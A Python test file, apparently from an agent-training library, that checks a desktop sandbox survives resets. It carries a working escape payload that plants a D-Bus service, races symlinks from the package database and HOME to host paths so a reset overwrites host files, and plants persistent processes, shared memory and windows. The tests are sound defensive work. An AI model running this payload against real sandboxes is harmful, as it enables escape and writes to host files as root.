"""Attacks on the desktop sandbox (``agentrl serve-desktop``, the ``AgentRL/OSWorld-v0`` runtime) across a reset.

Findings 1 and 2 of the trust audit of 036fe13. An action (``POST /pyautogui``, every OSWorld-v0 action's route) or
``POST /execute`` plants a D-Bus service file in a bus service folder the sandbox can write and starts it by name
over the session bus. On 036fe13 the bus and everything it started outlived ``reset`` (it spared the bus and its
children), so that process kept planting ``/var/lib/dpkg/status -> <host path>`` links, and at the next reset the
host's restore of the package database wrote dpkg's ``status`` through them: a host file of the attacker's
choosing, written by the server's user (root here). The same process went on writing into the next episode's HOME.

Each test attacks as a client does (the server's HTTP routes on a real desktop, or a process of the sandbox racing
the reset), resets, and checks the outcome from the host: no host file written, no process of episode N alive in
N+1, the bus folders and everything else the sandbox could write empty again.
"""

from __future__ import annotations

import contextlib
import importlib.util
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

pytestmark = pytest.mark.timeout(600)

pytest.importorskip("mss", reason="mss is missing: pip install 'agentrl-gym[desktop]'")
if importlib.util.find_spec("pyautogui") is None:
    pytest.skip("pyautogui is missing: pip install 'agentrl-gym[desktop]'", allow_module_level=True)
if not shutil.which("Xvfb") or not shutil.which("xterm"):
    pytest.skip("needs Xvfb and xterm (make test installs them: apt-get install xvfb xterm)", allow_module_level=True)
if not shutil.which("bwrap"):
    pytest.skip("bubblewrap is not installed (apt-get install -y bubblewrap)", allow_module_level=True)

from agentrl.core.errors import SandboxUnavailable  # noqa: E402
from agentrl.envs.osworld.client import DesktopClient  # noqa: E402
from agentrl.envs.osworld.runtime.desktop import DesktopSession  # noqa: E402
from agentrl.envs.osworld.runtime.windows import list_windows  # noqa: E402
from agentrl.envs.osworld.server import serve_desktop  # noqa: E402

TOKEN = "desktop-escape-" + uuid.uuid4().hex
UNTOUCHED = "untouched host file\n"

# Runs in the sandbox (through /pyautogui or /execute): plant a D-Bus service in every bus service folder the
# sandbox can write and start it by name. The service keeps planting links from the package database (and from
# HOME) to host paths, and writes into whatever HOME it sees; its command line carries MARKER.
ATTACK = r'''
import os, subprocess, sys, time
env = {}
for pid in os.listdir("/proc"):  # the bus's address and runtime folder, from the desktop's own daemons
    try:
        with open("/proc/%s/environ" % pid, "rb") as f:
            for item in f.read().split(b"\0"):
                key, _, value = item.decode(errors="replace").partition("=")
                if key in ("DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR") and value:
                    env.setdefault(key, value)
    except OSError:
        pass
print("ENV", sorted(env))
os.environ.update(env)
home = os.path.expanduser("~")
runtime = os.environ.get("XDG_RUNTIME_DIR") or home
racer = """
import os, sys, time
victim, victim_dir, marker = sys.argv[1], sys.argv[2], sys.argv[3]
links = [("/var/lib/dpkg/" + n, victim) for n in ("status", "available", "diversions")]
links += [(os.path.expanduser("~/Documents"), victim_dir)]
while True:
    for path, target in links:
        try:
            if os.path.islink(path):
                continue
            if os.path.isdir(path):
                os.rmdir(path)
            else:
                os.unlink(path)
        except OSError:
            pass
        try:
            os.symlink(target, path)
        except OSError:
            pass
    try:
        with open(os.path.expanduser("~/" + marker + "-was-here"), "w") as f:
            f.write("episode N")
    except OSError:
        pass
    time.sleep(0.0002)
"""
script = os.path.join(runtime, "MARKER.py")
with open(script, "w") as f:
    f.write(racer)
name = "org.agentrl.MARKER"
service = "[D-BUS Service]\nName=%s\nExec=/usr/bin/python3 %s VICTIM VICTIM_DIR MARKER\n" % (name, script)
for folder in (os.path.join(runtime, "dbus-1", "services"), os.path.join(home, ".local/share/dbus-1/services")):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name + ".service"), "w") as f:
        f.write(service)
call = ["dbus-send", "--session", "--print-reply", "--dest=org.freedesktop.DBus", "/org/freedesktop/DBus",
        "org.freedesktop.DBus.StartServiceByName", "string:" + name, "uint32:0"]
try:  # the service never takes its name, so a started one leaves the call waiting
    done = subprocess.run(call, capture_output=True, text=True, timeout=3)
    print("CALL", done.returncode, done.stdout.strip(), done.stderr.strip())
except subprocess.TimeoutExpired:
    print("CALL pending")
deadline = time.monotonic() + 3
while time.monotonic() < deadline:
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                if b"MARKER.py" in f.read():
                    found.append(pid)
        except OSError:
            pass
    if found:
        print("ACTIVATED", found)
        break
    time.sleep(0.05)
else:
    print("NOT ACTIVATED")
'''


def _attack(marker: str, victim: Path, victim_dir: Path) -> str:
    return ATTACK.replace("VICTIM_DIR", str(victim_dir)).replace("VICTIM", str(victim)).replace("MARKER", marker)


@pytest.fixture
def desktop() -> Iterator[tuple[DesktopSession, DesktopClient]]:
    """A desktop (640x480) served over HTTP with a token, as ``agentrl serve-desktop`` serves it."""
    try:
        session = DesktopSession(width=640, height=480)
    except SandboxUnavailable as exc:
        pytest.skip(f"no X desktop here (Xvfb could not be installed or started): {exc}")
    try:
        if not session.jail.sandboxed:
            pytest.skip(f"bubblewrap is not installed or cannot run here: {session.isolation_warning}")
        if session.bus_address is None:
            pytest.skip(f"no AT-SPI here (no session bus): {session.accessibility_note}")
        with serve_desktop(session, token=TOKEN) as handle:
            yield session, DesktopClient(handle.base_url, token=TOKEN)
    finally:
        session.close()


@pytest.fixture
def victim(tmp_path: Path) -> tuple[Path, Path]:
    """A host file and a host folder outside every sandbox, which no desktop may write."""
    folder = tmp_path / "host-only"
    folder.mkdir()
    target = folder / "victim.txt"
    target.write_text(UNTOUCHED, encoding="utf-8")
    victim_dir = tmp_path / "host-dir"
    victim_dir.mkdir()
    return target, victim_dir


def _untouched(victim: Path, victim_dir: Path) -> None:
    assert victim.read_text(encoding="utf-8", errors="replace")[:200] == UNTOUCHED, "the host wrote a host file"
    assert sorted(p.name for p in victim.parent.iterdir()) == [victim.name]
    assert list(victim_dir.iterdir()) == [], "the host wrote into a host folder"


def _host_processes(marker: str) -> list[int]:
    """Live host processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmd = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmd and state != "Z":
            found.append(int(entry.name))
    return found


def _start_time(pid: int) -> str | None:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = stat.rsplit(")", 1)[1].split()
    return None if fields[0] == "Z" else fields[19]


def _sandbox_processes(session: DesktopSession) -> dict[int, tuple[str, str]]:
    """Every host process of the desktop's sandbox (descendants of bwrap): pid -> (start time, command)."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError, IndexError):
                parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
    root = session.jail.host_pid
    assert root is not None
    out: dict[int, tuple[str, str]] = {}
    for pid in parents:
        ancestor, hops = pid, 0
        while ancestor not in (root, 0, 1) and hops < 64:
            ancestor, hops = parents.get(ancestor, 0), hops + 1
        start = _start_time(pid)
        if ancestor == root and pid != root and start is not None:
            with contextlib.suppress(OSError):
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                out[pid] = (start, cmd[:120])
    return out


def _still_alive(before: dict[int, tuple[str, str]]) -> list[str]:
    return [cmd for pid, (start, cmd) in before.items() if _start_time(pid) == start]


def _run(client: DesktopClient, route: str, code: str) -> str:
    if route == "pyautogui":
        out = client.pyautogui(code, timeout_s=30)
        assert out["ok"], out
        return str(out["output"])
    got = client.execute(["python3", "-c", code], timeout_s=30)
    assert got["returncode"] == 0, got
    return str(got["output"])


@pytest.mark.parametrize("route", ["pyautogui", "execute"])
def test_a_bus_started_service_cannot_write_the_host_or_outlive_reset(
    desktop: tuple[DesktopSession, DesktopClient], victim: tuple[Path, Path], route: str
) -> None:
    session, client = desktop
    target, victim_dir = victim
    marker = "agentrl" + uuid.uuid4().hex[:12]
    client.reset()
    output = _run(client, route, _attack(marker, target, victim_dir))
    episode_n = _sandbox_processes(session)
    run_dir = session.home.parent / "run"
    try:
        for _ in range(3):  # the package database is restored at each reset: three chances to follow a link
            assert client.reset()
            time.sleep(0.3)  # a survivor would plant its links and write into the new HOME meanwhile
            _untouched(target, victim_dir)
        assert _host_processes(marker) == [], f"the bus-started process outlived reset ({output})"
        assert _still_alive(episode_n) == [], "processes of the last episode run in this one"
        home = {p.name for p in session.home.iterdir()}
        assert home == {"Desktop"}, home  # no "<marker>-was-here", no ~/.local/share/dbus-1
        runtime = run_dir / "xdg"
        assert not (runtime / "dbus-1").exists() and not (runtime / f"{marker}.py").exists(), os.listdir(runtime)
        assert not (session.home / ".local").exists()
        listed = client.execute(f"ls -a $HOME {runtime} {runtime}/dbus-1 2>&1; echo done", shell=True)["output"]
        assert marker not in listed and "services" not in listed, listed
        # The next episode still has its bus, AT-SPI and a working desktop.
        assert session.bus_address is not None and session.accessibility_tree().startswith("<desktop-frame")
        assert client.execute("echo ok", shell=True)["output"] == "ok\n"
    finally:
        for pid in _host_processes(marker):  # on a broken build: nothing of the attack outlives the test
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


def test_links_planted_during_reset_are_not_followed_by_the_host(victim: tuple[Path, Path], tmp_path: Path) -> None:
    """A process of the sandbox racing the reset (simulated from the host: none survives the reset any more)."""
    target, victim_dir = victim
    template = tmp_path / "template"
    (template / "Documents").mkdir(parents=True)
    (template / "Documents" / "note.txt").write_text("from the template\n", encoding="utf-8")
    try:
        session = DesktopSession(width=320, height=240, window_manager=False, home_template=template)
    except SandboxUnavailable as exc:
        pytest.skip(f"no X desktop here (Xvfb could not be installed or started): {exc}")
    racer_source = textwrap.dedent(
        """
        import json, os, sys, time
        links = json.loads(sys.argv[1])
        end = time.monotonic() + float(sys.argv[2])
        while time.monotonic() < end:
            for path, target in links:
                try:
                    if os.path.islink(path):
                        continue
                    if os.path.isdir(path):
                        os.rmdir(path)
                    else:
                        os.unlink(path)
                except OSError:
                    pass
                try:
                    os.symlink(target, path)
                except OSError:
                    pass
        """
    )
    try:
        links = [(str(session.home / name), str(victim_dir)) for name in ("Documents", "Desktop")]
        links += [(str(session.home.parent / "run" / "xdg"), str(victim_dir))]
        # Every package database folder the desktop keeps (the running sandbox's, and any made ready beside it).
        databases = {p for p in (session.vm_state.dpkg, *session.vm_state.var.glob("*/dpkg")) if p is not None}
        assert databases or not os.path.isfile("/var/lib/dpkg/status")
        for dpkg in databases:
            links += [(str(dpkg / name), str(target)) for name in ("status", "available", "diversions")]
            links += [(str(dpkg / name), str(victim_dir)) for name in ("info", "updates", "alternatives")]
        racer = subprocess.Popen([sys.executable, "-c", racer_source, json.dumps(links), "30"])
        try:
            time.sleep(0.2)
            for _ in range(4):
                with contextlib.suppress(OSError, SandboxUnavailable):  # refusing is fine; following is not
                    session.reset()
                _untouched(target, victim_dir)
        finally:
            racer.kill()
            racer.wait()
        _untouched(target, victim_dir)
        session.reset()  # with nothing racing, the reset restores HOME from the template
        assert (session.home / "Documents" / "note.txt").read_text() == "from the template\n"
        assert not (session.home / "Documents").is_symlink()
        assert session.run(["sh", "-c", "cat ~/Documents/note.txt"])[1] == "from the template\n"
    finally:
        session.close()
    _untouched(target, victim_dir)


def test_nothing_of_an_episode_is_left_in_the_next(desktop: tuple[DesktopSession, DesktopClient]) -> None:
    session, client = desktop
    marker = "agentrl-leak-" + uuid.uuid4().hex[:10]
    key = 0x41000000 + uuid.uuid4().int % 0xFFFFFF
    runtime = session.home.parent / "run" / "xdg"
    bus_dir = session.home.parent / "run"
    places = [f"{runtime}/{marker}", f"{bus_dir}/{marker}", f"{runtime}/dbus-1/services/{marker}.service",
              f"$HOME/.local/share/dbus-1/services/{marker}.service", f"/tmp/{marker}", f"/var/tmp/{marker}",
              f"/run/{marker}", f"/dev/shm/{marker}"]  # fmt: skip
    plant = " ; ".join(f'mkdir -p "$(dirname {p})" && echo N > {p}' for p in places)
    shm = (
        "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
        f"print('SHM', libc.shmget({key}, 4096, 0o1000 | 0o600))"
    )
    window = (
        "from Xlib import X, display\nd = display.Display()\ns = d.screen()\n"
        "w = s.root.create_window(20, 20, 200, 120, 0, s.root_depth, background_pixel=s.white_pixel)\n"
        f"w.set_wm_name({marker!r})\nw.map()\n"
        "o = s.root.create_window(300, 200, 80, 80, 0, s.root_depth, background_pixel=s.black_pixel, "
        "override_redirect=True)\no.map()\n"
        "d.set_close_down_mode(X.RetainPermanent)\nd.sync()\nprint('window')\n"
    )
    client.reset()
    assert client.execute(["python3", "-c", window])["output"] == "window\n"  # its window stays when it exits
    planted = client.execute(f'{plant}; python3 -c "{shm}"; echo planted', shell=True)
    assert planted["output"].endswith("planted\n") and "SHM -1" not in planted["output"], planted
    # A service of the system's, started by name over the session bus: a child of the bus.
    started = client.execute(
        "dbus-send --session --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus "
        "org.freedesktop.DBus.StartServiceByName string:ca.desrt.dconf uint32:0",
        shell=True,
    )
    assert started["returncode"] == 0, started
    deadline = time.monotonic() + 10
    while not any("dconf-service" in cmd for _, cmd in _sandbox_processes(session).values()):
        assert time.monotonic() < deadline, "the bus did not start dconf-service"
        time.sleep(0.05)
    episode_n = _sandbox_processes(session)
    assert client.reset()
    assert _still_alive(episode_n) == [], "processes of the last episode run in this one"
    check = " ; ".join(f"test -e {p} && echo LEFT {p}" for p in places)
    shm_check = f"import ctypes; libc = ctypes.CDLL(None, use_errno=True); print('SHM', libc.shmget({key}, 0, 0))"
    seen = client.execute(f'{check}; python3 -c "{shm_check}"; echo checked', shell=True)
    assert "LEFT" not in seen["output"], seen
    assert "SHM -1" in seen["output"], f"a System V segment of the last episode is still there: {seen}"
    assert marker not in " ".join(os.listdir(bus_dir)) and marker not in " ".join(os.listdir(runtime))
    time.sleep(0.2)
    assert [w.name for w in list_windows(session.env(), wm_class=False) if w.name == marker] == []
    assert tuple(session.screenshot()[240, 340]) != (0, 0, 0), "the last episode's window is still on the screen"


def test_a_deep_tree_in_home_is_gone_after_reset(desktop: tuple[DesktopSession, DesktopClient]) -> None:
    session, client = desktop
    client.reset()
    deep = (
        "import os\nos.chdir(os.path.expanduser('~'))\nfor _ in range(3000):\n"
        "    os.mkdir('d')\n    os.chdir('d')\nopen('bottom', 'w').write('episode N')\nprint('deep')\n"
    )
    assert _run(client, "pyautogui", deep).strip() == "deep"
    with contextlib.suppress(Exception):  # an error here is a failed reset; the next lines say what was left
        client.reset()
    assert sorted(p.name for p in session.home.iterdir()) == ["Desktop"]
    assert client.execute("echo ok", shell=True)["output"] == "ok\n"
